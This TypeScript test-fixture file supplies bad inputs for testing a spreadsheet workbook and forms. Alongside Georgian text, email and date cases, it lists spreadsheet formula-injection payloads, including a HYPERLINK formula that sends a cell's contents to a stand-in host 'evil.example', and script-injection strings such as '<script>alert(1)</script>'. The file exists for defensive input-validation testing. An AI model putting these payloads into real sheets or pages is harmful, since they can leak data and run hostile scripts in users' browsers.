/**
 * The bad-input corpus: what people paste and type into the workbook and the forms. Shared by
 * the domain tests and the entry-point tests of this folder.
 */

/** Texts that Sheets would run as formulas, or that spreadsheet-injection guidance flags. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1',
  '-1+2',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  ' =1',
  '=IMPORTXML("http://evil.example","//a")',
];

export const HTML_PAYLOADS = ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "'; alert(1); //", '&lt;b&gt;'];

export const MTAVRULI = 'ᲒᲐᲛᲐᲠᲯᲝᲑᲐ';
export const MKHEDRULI = 'გამარჯობა';
/** Zero-width joiner and space inside words, as copy and paste leaves them. */
export const ZERO_WIDTH = 'რ\u200Dიგ\u200Bში ვიდექი დიდხანს';
export const MIXED_SCRIPTS = 'Online სერვისი არ მუშაობდა, ვებგვერდი down იყო';
export const EMOJI = 'თანამშრომელი ძალიან თავაზიანი იყო 👍🏽🙏 მადლობა';

/** A pasted page: longer than one cell can hold (50,000 characters). */
export const HUGE_TEXT = 'რიგში ლოდინი '.repeat(5000).slice(0, 60000);

export const EMAILS: Array<{ input: unknown; expected: string | null }> = [
  { input: 'User@Example.GE', expected: 'User@example.ge' },
  { input: 'a@b', expected: null },
  { input: 'a@@b.ge', expected: null },
  { input: ' a@b.ge ', expected: 'a@b.ge' },
  { input: 'a b@c.ge', expected: null },
  { input: 'a\u200B@b.ge', expected: 'a@b.ge' },
  { input: '=HYPERLINK("x")@b.ge', expected: null },
  { input: '<script>@b.ge', expected: null },
  { input: '', expected: null },
  { input: null, expected: null },
];

/** 5 January 2026, 00:00 in Tbilisi (UTC+4). */
export const JAN_5_2026 = Date.UTC(2026, 0, 4, 20, 0, 0);

export const DATES: Array<{ input: unknown; expected: number | null }> = [
  { input: '05.01.2026', expected: JAN_5_2026 },
  { input: '2026-01-05', expected: JAN_5_2026 },
  { input: '5/1/2026', expected: JAN_5_2026 },
  { input: new Date(JAN_5_2026), expected: JAN_5_2026 },
  { input: 'tomorrow', expected: null },
  { input: '', expected: null },
  { input: '31.02.2026', expected: null },
  { input: '=TODAY()', expected: null },
];
